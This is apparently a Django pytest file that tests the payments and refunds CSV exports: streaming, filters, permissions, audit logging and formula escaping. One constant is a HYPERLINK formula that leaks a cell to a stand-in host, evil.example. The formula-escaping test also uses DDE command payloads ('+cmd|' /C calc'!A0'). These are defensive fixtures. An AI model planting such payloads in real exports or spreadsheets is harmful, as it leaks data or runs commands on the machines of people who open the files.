"""The payments and refunds exports: the list's filter as CSV, streamed, safe to open in a spreadsheet,
and on the audit trail."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC
from decimal import Decimal
from typing import cast

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.urls import reverse

from accounts.rbac_catalog import (
    ADD_REFUND,
    APPROVE_REFUND,
    EXPORT_PAYMENTS,
    PROCESS_REFUND,
    VIEW_PAYMENT,
    VIEW_REFUND,
)
from accounts.tests.factories import UserFactory, staff_holding
from auditing.models import AuditAction, AuditLog
from billing import selectors, services
from billing.models import Payment, PaymentStatus
from billing.tests.factories import PaymentFactory, refund_processed
from consultants.tests.factories import BookingFactory, ConsultantFactory, ServiceFactory
from core.testing import signed_in

pytestmark = pytest.mark.django_db

PAYMENTS_EXPORT = reverse("billing:payments_export")
REFUNDS_EXPORT = reverse("billing:refunds_export")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def csv_rows(response) -> list[dict]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(cast(Iterator[bytes], response.streaming_content)).decode()
    return list(csv.DictReader(io.StringIO(text)))


def exports(entity_type: str) -> list[AuditLog]:
    return list(AuditLog.objects.filter(action=AuditAction.EXPORT, entity_type=entity_type).order_by("pk"))


@pytest.fixture
def exporter():
    return staff_holding(VIEW_PAYMENT, VIEW_REFUND, EXPORT_PAYMENTS, full_name="Erin Export")


def test_the_payments_export_streams_the_filtered_list_newest_first(exporter):
    # given payments of two statuses
    first, second = PaymentFactory(), PaymentFactory()
    PaymentFactory(status=PaymentStatus.FAILED, paid_at=None)

    # when the succeeded ones are exported
    response = signed_in(exporter).get(PAYMENTS_EXPORT, {"status": "SUCCEEDED"})

    # then the answer is a streamed CSV download of those, newest first, with every column
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="payments-')
    rows = csv_rows(response)
    assert [int(row["id"]) for row in rows] == [second.pk, first.pk]
    assert list(rows[0]) == [name for name, _column in selectors.PAYMENT_EXPORT_COLUMNS]
    row = rows[0]
    assert (row["amount"], row["platform_fee"], row["consultant_amount"], row["currency"]) == (
        "100.00", "15.00", "85.00", "USD",
    )  # fmt: skip
    assert row["payer_email"] == second.payer.email
    assert row["consultant_id"] == str(second.booking.consultant_id)
    assert row["category"] == second.booking.service.category.name


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(exporter):
    # given a payer, a consultant and a service named with formulas, and a refund whose reason is one
    payer = UserFactory(full_name=FORMULA)
    consultant = ConsultantFactory(user=UserFactory(full_name="@SUM(A1:A9)"))
    service = ServiceFactory(consultant=consultant, title="+cmd|' /C calc'!A0")
    payment = PaymentFactory(booking=BookingFactory(client=payer, service=service), payer=payer)
    services.refund_request(
        payment=payment, amount="5.00", reason="-2+3+cmd|' /C calc'!A0", requested_by=staff_holding(ADD_REFUND)
    )
    client = signed_in(exporter)

    # when both are exported
    payment_row = csv_rows(client.get(PAYMENTS_EXPORT))[0]
    refund_row = csv_rows(client.get(REFUNDS_EXPORT))[0]

    # then each such cell starts with an apostrophe, and the numbers stay numbers
    assert payment_row["payer_name"] == "'" + FORMULA
    assert payment_row["consultant_name"] == "'@SUM(A1:A9)"
    assert payment_row["service_title"] == "'+cmd|' /C calc'!A0"
    assert refund_row["reason"] == "'-2+3+cmd|' /C calc'!A0"
    assert (payment_row["amount"], refund_row["amount"]) == ("100.00", "5.00")
    assert payment_row["payer_email"] == payer.email  # text that is no formula is left alone


def test_each_export_is_audited_with_its_filter(exporter):
    PaymentFactory(booking=BookingFactory(consultant=ConsultantFactory(user=UserFactory(full_name="Mira Okafor"))))
    client = signed_in(exporter)

    csv_rows(client.get(PAYMENTS_EXPORT, {"status": "SUCCEEDED", "currency": "USD", "consultant": "mira"}))
    csv_rows(client.get(REFUNDS_EXPORT, {"status": "all"}))

    (payments_event,) = exports("billing.payment")
    assert payments_event.actor_id == exporter.pk
    filters = payments_event.changes["filters"]
    assert {key: filters[key] for key in ("status", "currency", "consultant")} == {
        "status": "SUCCEEDED", "currency": "USD", "consultant": "mira",
    }  # fmt: skip
    assert "date_from" in filters  # the default period the export covered is on record too
    (refunds_event,) = exports("billing.refund")
    assert refunds_event.changes["filters"]["status"] == "all"


def test_an_export_of_a_filter_not_understood_is_refused_and_not_audited(exporter):
    client = signed_in(exporter)
    response = client.get(PAYMENTS_EXPORT, {"date_from": "2026-99-99"}, follow=True)
    assert response.redirect_chain[0][0].startswith(reverse("billing:payments"))
    assert any("Fix the filters" in str(message) for message in response.context["messages"])
    response = client.get(REFUNDS_EXPORT, {"status": "STOLEN"}, follow=True)
    assert response.redirect_chain[0][0].startswith(reverse("billing:refunds"))
    assert exports("billing.payment") == exports("billing.refund") == []


@pytest.mark.parametrize(
    ("url", "perms"),
    [
        (PAYMENTS_EXPORT, (VIEW_PAYMENT,)),
        (PAYMENTS_EXPORT, (EXPORT_PAYMENTS,)),
        (PAYMENTS_EXPORT, (VIEW_REFUND, EXPORT_PAYMENTS)),
        (REFUNDS_EXPORT, (VIEW_REFUND,)),
        (REFUNDS_EXPORT, (VIEW_PAYMENT, EXPORT_PAYMENTS)),
    ],
)
def test_exporting_needs_the_export_permission_and_the_right_to_view_what_is_exported(url, perms):
    PaymentFactory()
    response = signed_in(staff_holding(*perms)).get(url)
    assert response.status_code == 403
    assert exports("billing.payment") == exports("billing.refund") == []


def test_the_export_link_is_shown_to_who_may_export_only(exporter):
    page = signed_in(exporter).get(reverse("billing:payments"), {"status": "SUCCEEDED"}).content.decode()
    assert f"{PAYMENTS_EXPORT}?status=SUCCEEDED" in page
    page = signed_in(staff_holding(VIEW_PAYMENT)).get(reverse("billing:payments")).content.decode()
    assert PAYMENTS_EXPORT not in page


def test_the_refunds_export_holds_who_asked_decided_and_processed(exporter):
    finance = staff_holding(APPROVE_REFUND, PROCESS_REFUND, email="fin@example.com")
    clerk = staff_holding(ADD_REFUND, email="clerk@example.com")
    refund = refund_processed(amount=Decimal("30.00"), requested_by=clerk, finance=finance)
    (row,) = csv_rows(signed_in(exporter).get(REFUNDS_EXPORT, {"status": "PROCESSED"}))
    assert (row["id"], row["status"], row["amount"], row["currency"]) == (str(refund.pk), "PROCESSED", "30.00", "USD")
    assert (row["requested_by"], row["decided_by"], row["processed_by"]) == (
        "clerk@example.com", "fin@example.com", "fin@example.com",
    )  # fmt: skip
    assert Decimal(row["platform_fee_reversed"]) + Decimal(row["consultant_amount_reversed"]) == Decimal("30.00")


def test_the_export_streams_from_a_server_side_cursor_so_memory_stays_flat(exporter, monkeypatch, require_postgres):
    # given more payments than one fetch of the cursor holds
    for _ in range(5):
        PaymentFactory()
    monkeypatch.setattr(selectors, "EXPORT_CHUNK_SIZE", 2)
    monkeypatch.setattr("billing.views.LINES_PER_BLOCK", 1)

    # when the download has sent its header and first row
    response = cast(StreamingHttpResponse, signed_in(exporter).get(PAYMENTS_EXPORT))
    lines = iter(cast(Iterator[bytes], response.streaming_content))
    head = [next(lines), next(lines)]

    # then the rest waits in a cursor on the database server, not in memory
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors")
        assert cursor.fetchone()[0] >= 1
    assert len(head + list(lines)) == 6  # the header and five payments, the same as the list


def test_a_large_export_is_sent_in_blocks_of_lines_not_a_write_per_row(exporter):
    for _ in range(3):
        PaymentFactory()
    response = cast(StreamingHttpResponse, signed_in(exporter).get(PAYMENTS_EXPORT))
    blocks = list(cast(Iterator[bytes], response.streaming_content))
    assert len(blocks) == 1 and blocks[0].count(b"\r\n") == 4


def test_the_export_selector_gives_the_rows_the_header_names(exporter):
    payment = PaymentFactory()
    rows = selectors.payments_export_rows(Payment.objects.filter(pk=payment.pk))
    (values,) = list(rows.iterator(chunk_size=selectors.EXPORT_CHUNK_SIZE))
    named = dict(zip((name for name, _column in selectors.PAYMENT_EXPORT_COLUMNS), values, strict=True))
    assert (named["id"], named["payer_email"], named["amount"]) == (str(payment.pk), payment.payer.email, "100.00")
    assert payment.paid_at is not None
    assert named["paid_at"].startswith(payment.paid_at.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S"))
    assert "SELECT" in str(rows.query)
